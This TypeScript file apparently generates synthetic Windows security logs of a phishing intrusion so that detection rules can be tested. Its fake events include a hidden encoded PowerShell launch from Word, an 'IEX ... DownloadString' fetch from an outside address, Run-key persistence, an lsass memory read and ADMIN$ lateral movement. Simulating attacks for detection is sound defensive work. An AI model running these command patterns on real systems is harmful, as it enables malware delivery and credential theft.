import { connected, processOpened, processStarted, registryValueSet, scriptBlock } from '../lines/windows.ts'
import { shareOpened } from '../lines/windows-security.ts'
import { account, DOMAIN, MINUTE, outsideAddress, type SampleLine, type Scene, SECOND, workstation } from '../scene.ts'
import { ANYWHERE, type Scenario, stepper } from './scenario.ts'

const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const ENCODED =
  'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQA'

/** A document with a macro starts PowerShell, which fetches a program; it stays, steals passwords and spreads. */
export const phishing: Scenario = {
  name: 'Phishing document',
  offices: ANYWHERE,
  fires: [
    'Office program starts a shell or script host',
    'PowerShell started with an encoded command',
    'PowerShell downloads code and runs it',
    'System tool connects to the Internet',
    'Start-up registry key set to run a script',
    'Memory of the sign-in process read',
    'One address opens administrative shares of many computers',
  ],
  lines: infect,
}

function* infect(scene: Scene, start: number): Generator<SampleLine> {
  const { office, random } = scene
  const after = stepper(scene, start)
  const number = random.between(1, 30)
  const desk = workstation(office, number)
  const user = `${DOMAIN}\\${account(number)}`
  const to = outsideAddress(random.between(0, 20))
  const document = `"${WORD}" /n "C:\\Users\\${account(number)}\\Downloads\\Nota verbal ${random.between(100, 900)}.docm"`
  yield processStarted(desk, start, { image: WORD, commandLine: document, user })
  yield processStarted(desk, after(8 * SECOND), {
    image: 'C:\\Windows\\System32\\cmd.exe',
    commandLine: `cmd.exe /c powershell -nop -w hidden -enc ${ENCODED}`,
    parent: WORD,
    parentCommandLine: document,
    user,
  })
  const commandLine = `powershell -nop -w hidden -enc ${ENCODED}`
  yield processStarted(desk, after(SECOND), {
    image: POWERSHELL,
    commandLine,
    parent: 'C:\\Windows\\System32\\cmd.exe',
    user,
  })
  yield scriptBlock(desk, after(SECOND), `IEX (New-Object Net.WebClient).DownloadString('http://${to}/a.ps1')`)
  const image = 'C:\\Windows\\System32\\rundll32.exe'
  yield connected(desk, after(20 * SECOND), { image, to, port: 443, user })
  const key =
    'HKU\\S-1-5-21-1004336348-1177238915-682003330-1106\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater'
  yield registryValueSet(desk, after(20 * SECOND), {
    image: POWERSHELL,
    key,
    value: 'rundll32.exe C:\\Users\\Public\\u.dll,Start',
  })
  const trace =
    'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00000219A1B60C31)'
  yield processOpened(desk, after(5 * MINUTE), {
    by: image,
    target: 'C:\\Windows\\system32\\lsass.exe',
    access: '0x1010',
    trace,
  })
  for (let i = 1; i <= 7; i++) {
    const use = { user: account(number), from: desk.address, share: 'ADMIN$' }
    yield shareOpened(workstation(office, number + i), after(20 * SECOND), use)
  }
}
